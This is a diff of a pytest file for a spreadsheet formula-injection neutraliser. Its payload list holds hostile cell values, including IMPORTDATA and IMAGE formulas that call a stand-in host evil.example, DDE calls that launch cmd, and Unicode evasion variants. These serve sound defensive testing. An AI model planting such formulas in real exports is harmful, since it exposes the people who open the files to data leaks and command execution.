@@ -8,7 +8,7 @@ import re
 
 import pytest
 
-from service.formats.formula import (
+from learner_export.formats.formula import (
     ALWAYS,
     PLAIN,
     SIGNS,
@@ -36,26 +36,83 @@ PAYLOADS = [
     '=IMPORTDATA("http://evil.example/x.csv")',
     '=IMAGE("http://evil.example/pixel.png")',
     '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
-    "=1+1", "@A1", "+A1", "-A1", "=", "@",
-    "\n=1+1", "\r\n=1+1", "   =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\t=1+1",
-    "\u3000@SUM(1)", '"=1+1"', "\x01=1+1",
-    "x;" + DDE, "x\t" + DDE, "x\n" + DDE, "x\r" + DDE, "x,y;" + DDE, "x; =1+1", "x;\u00a0@SUM(1)",
-    "x;-2+3+cmd|' /C calc'!A0", "a;b;c;=1+1", 'x;"=1+1"', "Dear team;\n=1+1",
+    "=1+1",
+    "@A1",
+    "+A1",
+    "-A1",
+    "=",
+    "@",
+    "\n=1+1",
+    "\r\n=1+1",
+    "   =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\t=1+1",
+    "\u3000@SUM(1)",
+    '"=1+1"',
+    "\x01=1+1",
+    "x;" + DDE,
+    "x\t" + DDE,
+    "x\n" + DDE,
+    "x\r" + DDE,
+    "x,y;" + DDE,
+    "x; =1+1",
+    "x;\u00a0@SUM(1)",
+    "x;-2+3+cmd|' /C calc'!A0",
+    "a;b;c;=1+1",
+    'x;"=1+1"',
+    "Dear team;\n=1+1",
     "+1;'+cmd|' /C calc'!A0",  # a plain number first, then a payload: the whole cell counts
-    "\uff1d1+1", "\ufe661+1", "\uff20SUM(1)", "\ufe6bSUM(1)", "\uff0bcmd|' /C calc'!A0",
-    "\uff0dcmd|' /C calc'!A0", "\u2212cmd|' /C calc'!A0", "x;\uff1d1+1",
+    "\uff1d1+1",
+    "\ufe661+1",
+    "\uff20SUM(1)",
+    "\ufe6bSUM(1)",
+    "\uff0bcmd|' /C calc'!A0",
+    "\uff0dcmd|' /C calc'!A0",
+    "\u2212cmd|' /C calc'!A0",
+    "x;\uff1d1+1",
 ]
 
 # Ordinary values that must come out exactly as they are.
 ORDINARY = [
-    "", "+61 400 000 000", "+61400000000", "(02) 9999 9999", "+1 (555) 010-9999", "-12.5",
-    "-0.5", "+7", "-", "+", "--", "2024-01-01", "1/2", "\u221212.5", "Anne-Marie O'Brien",
-    "Smith-Jones", "jo@example.com", "a-b", "a=b", "x+y", "100%", "x;y", "a;-1", "1;2",
-    "café", "中文 ünï 😀", "'quoted'", " plain", "note\nline two", "tab\tseparated",
-    "say \"hi\"", "a,b", "\\N", "NULL",
+    "",
+    "+61 400 000 000",
+    "+61400000000",
+    "(02) 9999 9999",
+    "+1 (555) 010-9999",
+    "-12.5",
+    "-0.5",
+    "+7",
+    "-",
+    "+",
+    "--",
+    "2024-01-01",
+    "1/2",
+    "\u221212.5",
+    "Anne-Marie O'Brien",
+    "Smith-Jones",
+    "jo@example.com",
+    "a-b",
+    "a=b",
+    "x+y",
+    "100%",
+    "x;y",
+    "a;-1",
+    "1;2",
+    "café",
+    "中文 ünï 😀",
+    "'quoted'",
+    " plain",
+    "note\nline two",
+    "tab\tseparated",
+    'say "hi"',
+    "a,b",
+    "\\N",
+    "NULL",
 ]
 
-SKIPPED = " \t\r\n\u00a0\u200b\ufeff\u3000\x01\""
+SKIPPED = ' \t\r\n\u00a0\u200b\ufeff\u3000\x01"'
 
 
 def reads_as_formula(piece: str) -> bool:
@@ -89,16 +146,19 @@ def test_ordinary_values_stay_as_they_are(value: str) -> None:
     assert neutralise(value) == value
 
 
-@pytest.mark.parametrize(("text", "expected"), [
-    ("=1+1", "'=1+1"),
-    ("  =1+1", "'  =1+1"),  # the quote goes first, where a spreadsheet reads it as "text"
-    ("x;=1+1", "x;'=1+1"),
-    ("x; =1+1;y", "x;' =1+1;y"),
-    ("\n=1+1", "\n'=1+1"),
-    ("=1;=2\t@3\n-A", "'=1;'=2\t'@3\n'-A"),
-    ("+61 400;x", "'+61 400;x"),  # a phone number only when nothing else follows
-    ("+1;'+cmd|' /C calc'!A0", "'+1;'+cmd|' /C calc'!A0"),  # a quote already leads the second
-])
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("  =1+1", "'  =1+1"),  # the quote goes first, where a spreadsheet reads it as "text"
+        ("x;=1+1", "x;'=1+1"),
+        ("x; =1+1;y", "x;' =1+1;y"),
+        ("\n=1+1", "\n'=1+1"),
+        ("=1;=2\t@3\n-A", "'=1;'=2\t'@3\n'-A"),
+        ("+61 400;x", "'+61 400;x"),  # a phone number only when nothing else follows
+        ("+1;'+cmd|' /C calc'!A0", "'+1;'+cmd|' /C calc'!A0"),  # a quote already leads the second
+    ],
+)
 def test_where_the_quote_goes(text: str, expected: str) -> None:
     assert neutralise(text) == expected
 
@@ -111,8 +171,12 @@ def _random_cells(count: int) -> list[str]:
 
 def test_sql_gives_what_python_gives(pg_server: str) -> None:
     cells = PAYLOADS + ORDINARY + _random_cells(5000)
-    rows = query(pg_server, f"SELECT t, {sql_neutralised('t')} AS safe, {sql_is_formula('t')} AS f"
-                            " FROM unnest($1::text[]) WITH ORDINALITY AS c(t, n) ORDER BY n", cells)
+    rows = query(
+        pg_server,
+        f"SELECT t, {sql_neutralised('t')} AS safe, {sql_is_formula('t')} AS f"
+        " FROM unnest($1::text[]) WITH ORDINALITY AS c(t, n) ORDER BY n",
+        cells,
+    )
     assert [r["t"] for r in rows] == cells
     for cell, row in zip(cells, rows, strict=True):
         assert row["safe"] == neutralise(cell), repr(cell)
@@ -122,6 +186,9 @@ def test_sql_gives_what_python_gives(pg_server: str) -> None:
 
 
 def test_sql_keeps_null(pg_server: str) -> None:
-    row = query(pg_server, f"SELECT {sql_neutralised('t')} AS safe, coalesce({sql_is_formula('t')},"
-                           " false) AS f FROM (SELECT NULL::text AS t) c")[0]
+    row = query(
+        pg_server,
+        f"SELECT {sql_neutralised('t')} AS safe, coalesce({sql_is_formula('t')},"
+        " false) AS f FROM (SELECT NULL::text AS t) c",
+    )[0]
     assert row["safe"] is None and row["f"] is False
